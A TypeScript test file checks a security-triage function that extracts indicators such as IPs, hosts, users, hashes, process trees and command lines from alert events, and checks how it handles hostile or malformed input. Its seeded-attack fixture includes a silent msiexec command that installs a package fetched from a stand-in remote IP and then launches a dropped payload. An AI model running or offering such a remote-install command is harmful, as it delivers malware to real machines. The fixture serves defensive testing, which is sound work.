import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { project, TRIAGE_FIELDS } from "../lib/detect/projection.js";
import { extractObservables, MAX_PER_TYPE, remoteIps } from "../lib/triage/observables.js";
import type { Observable } from "../lib/triage/result.js";
import { seedAttack } from "./helpers/seed-attack.js";

const alertOf = (events: readonly unknown[]) => ({ events: events as Record<string, unknown>[] });
const ofType = (obs: readonly Observable[], type: Observable["type"]) => obs.filter((o) => o.type === type);
const SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

describe("extractObservables", () => {
  it("the seed attack: remote IP by direction, host, user, images, command line, parent -> child", () => {
    // Alert events are projections (null-prototype objects), as the detector stores them.
    const events = seedAttack({ host: "host-1" }).map((e) => project(e, TRIAGE_FIELDS).event);
    const obs = extractObservables(alertOf(events));
    expect(ofType(obs, "ip")).toEqual([{ type: "ip", value: "198.51.100.7", field: "destination.ip", events: [1], role: "remote", internal: true }]);
    expect(ofType(obs, "host")).toEqual([
      { type: "host", value: "WIN-FIN-07", field: "host.name", events: [0, 1, 2] },
      { type: "host", value: "host-1", field: "host.id", events: [0, 1, 2] },
    ]);
    expect(ofType(obs, "user")).toEqual([{ type: "user", value: "CORP\\jdoe", field: "user.name", events: [0, 1, 2] }]);
    expect(ofType(obs, "process").map((o) => [o.value, o.field, o.events])).toEqual([
      ["C:\\Windows\\System32\\msiexec.exe", "process.executable", [0, 1]],
      ["explorer.exe", "process.parent.name", [0]],
      ["C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI4F2A\\payload.exe", "process.executable", [2]],
      ["msiexec.exe", "process.parent.name", [2]],
    ]);
    expect(ofType(obs, "command_line")).toEqual([{ type: "command_line", value: "msiexec.exe /V /q /i http://198.51.100.7/update.msi", field: "process.command_line", events: [0] }]);
    expect(ofType(obs, "parent_child").map((o) => [o.value, o.field, o.events])).toEqual([
      ["explorer.exe -> C:\\Windows\\System32\\msiexec.exe", "process.parent.name -> process.executable", [0]],
      ["msiexec.exe -> C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI4F2A\\payload.exe", "process.parent.name -> process.executable", [2]],
    ]);
    expect(remoteIps(obs)).toEqual(["198.51.100.7"]);
  });

  it("picks the remote end by network.direction", () => {
    const ev = (direction: unknown) => ({ network: direction === undefined ? {} : { direction }, source: { ip: "10.0.0.5" }, destination: { ip: "8.8.8.8" } });
    const ips = (direction: unknown) => ofType(extractObservables(alertOf([ev(direction)])), "ip").map((o) => [o.value, o.role, o.internal]);
    expect(ips("egress")).toEqual([["8.8.8.8", "remote", false]]);
    expect(ips("outbound")).toEqual([["8.8.8.8", "remote", false]]);
    expect(ips("EGRESS")).toEqual([["8.8.8.8", "remote", false]]);
    expect(ips("ingress")).toEqual([["10.0.0.5", "remote", true]]);
    expect(ips("inbound")).toEqual([["10.0.0.5", "remote", true]]);
    for (const unknown of ["internal", "external", "unknown", undefined, 42, ["egress"], { x: 1 }]) {
      // An array direction takes its first element; everything else unrecognised means both ends.
      const expected = Array.isArray(unknown) ? [["8.8.8.8", "remote", false]] : [["10.0.0.5", "source", true], ["8.8.8.8", "destination", false]];
      expect(ips(unknown)).toEqual(expected);
    }
  });

  it("canonicalises IPs, unwraps mapped IPv6, reads *.address when *.ip is missing, merges duplicates", () => {
    const obs = extractObservables(alertOf([
      { network: { direction: "egress" }, destination: { ip: "::ffff:8.8.8.8" } },
      { network: { direction: "egress" }, destination: { ip: ["2001:4860:4860:0:0:0:0:8888", "8.8.8.8", "junk", "1.2.3.4/../../"] } },
      { network: { direction: "ingress" }, source: { address: "203.0.113.9" } },
      { network: { direction: "ingress" }, source: { address: "evil.example.com" } },
      { "source.ip": "1.1.1.1", "destination.ip": "fe80::1%eth0" },
    ]));
    expect(ofType(obs, "ip").map((o) => [o.value, o.field, o.events, o.role, o.internal])).toEqual([
      ["8.8.8.8", "destination.ip", [0, 1], "remote", false],
      ["2001:4860:4860::8888", "destination.ip", [1], "remote", false],
      ["203.0.113.9", "source.address", [2], "remote", true],
      ["1.1.1.1", "source.ip", [4], "source", false],
      ["fe80::1", "destination.ip", [4], "destination", true],
    ]);
  });

  it("hashes of process, parent, file and dll: hex of the right length only, lower-cased", () => {
    const obs = extractObservables(alertOf([{
      process: { hash: { sha256: SHA256.toUpperCase(), md5: "d41d8cd98f00b204e9800998ecf8427e", sha1: "not-a-hash" } },
      file: { hash: { sha1: "da39a3ee5e6b4b0d3255bfef95601890afd80709", sha256: "abc" } },
      dll: { hash: { sha256: [SHA256, "zz"] } },
    }]));
    expect(ofType(obs, "hash").map((o) => [o.value, o.algorithm, o.field])).toEqual([
      ["d41d8cd98f00b204e9800998ecf8427e", "md5", "process.hash.md5"],
      [SHA256, "sha256", "process.hash.sha256"],
      ["da39a3ee5e6b4b0d3255bfef95601890afd80709", "sha1", "file.hash.sha1"],
    ]);
    expect(ofType(obs, "hash")[1]!.events).toEqual([0]); // the dll's identical hash merges into it
  });

  it("skips missing-event stages, keeps event indexes, and uses process.name without an executable", () => {
    const obs = extractObservables(alertOf([
      { missing: true },
      { process: { name: "cmd.exe", parent: { executable: "C:\\Windows\\explorer.exe" } }, user: { name: "root" } },
    ]));
    expect(obs.map((o) => [o.type, o.value, o.events])).toEqual([
      ["user", "root", [1]],
      ["process", "cmd.exe", [1]],
      ["process", "C:\\Windows\\explorer.exe", [1]],
      ["parent_child", "C:\\Windows\\explorer.exe -> cmd.exe", [1]],
    ]);
  });

  it("caps values, strings and counts on hostile events", () => {
    const huge = "A".repeat(5_000_000);
    const many = Array.from({ length: 500 }, (_, i) => `host-${i}`);
    const events = Array.from({ length: 20 }, (_, i) => ({
      host: { name: many.slice(i * 25, i * 25 + 25) },
      process: { command_line: huge },
      destination: { ip: Array.from({ length: 100 }, (_, j) => `8.${i}.${j}.1`) },
    }));
    const obs = extractObservables(alertOf(events));
    expect(ofType(obs, "host")).toHaveLength(MAX_PER_TYPE);
    expect(ofType(obs, "ip")).toHaveLength(MAX_PER_TYPE);
    expect(ofType(obs, "command_line")).toHaveLength(1);
    expect(ofType(obs, "command_line")[0]!.value.length).toBe(2048);
    expect(ofType(obs, "command_line")[0]!.events).toHaveLength(20);
  });

  it("never throws: junk alerts, junk events, throwing getters, prototype keys", () => {
    const trap = { get host(): never { throw new Error("gotcha"); }, user: { name: "alice" } };
    const proto = JSON.parse(`{"__proto__": {"name": "x"}, "user": {"name": {"toString": 1}}, "constructor": {"prototype": 1}}`) as object;
    const obs = extractObservables(alertOf([null, 7, "str", [], trap, proto, { host: { name: 12 } }, { host: { name: { nested: "x" } } }]));
    expect(obs).toEqual([{ type: "host", value: "12", field: "host.name", events: [6] }]);
    expect(extractObservables({ events: null as unknown as Record<string, unknown>[] })).toEqual([]);
    expect(extractObservables(null as unknown as { events: Record<string, unknown>[] })).toEqual([]);
    fc.assert(fc.property(fc.array(fc.anything({ maxDepth: 4 }), { maxLength: 8 }), (events) => {
      const out = extractObservables(alertOf(events));
      for (const o of out) expect(o.events.every((i) => Number.isInteger(i) && i >= 0 && i < events.length)).toBe(true);
    }), { numRuns: 500 });
    const ecsish = fc.record({
      network: fc.record({ direction: fc.oneof(fc.constantFrom("egress", "ingress", "unknown"), fc.anything()) }, { requiredKeys: [] }),
      source: fc.record({ ip: fc.oneof(fc.ipV4(), fc.ipV6(), fc.string(), fc.array(fc.ipV4())) }, { requiredKeys: [] }),
      destination: fc.record({ ip: fc.oneof(fc.ipV4(), fc.ipV6(), fc.string(), fc.anything()) }, { requiredKeys: [] }),
      process: fc.record({ executable: fc.anything(), command_line: fc.string(), parent: fc.record({ name: fc.anything() }, { requiredKeys: [] }) }, { requiredKeys: [] }),
    }, { requiredKeys: [] });
    fc.assert(fc.property(fc.array(ecsish, { maxLength: 6 }), (events) => {
      const out = extractObservables(alertOf(events));
      // Every IP observable is canonical: the classifier maps it to itself.
      for (const o of ofType(out, "ip")) expect(o.value).toMatch(/^[0-9a-f:.]+$/);
    }), { numRuns: 500 });
  });
});
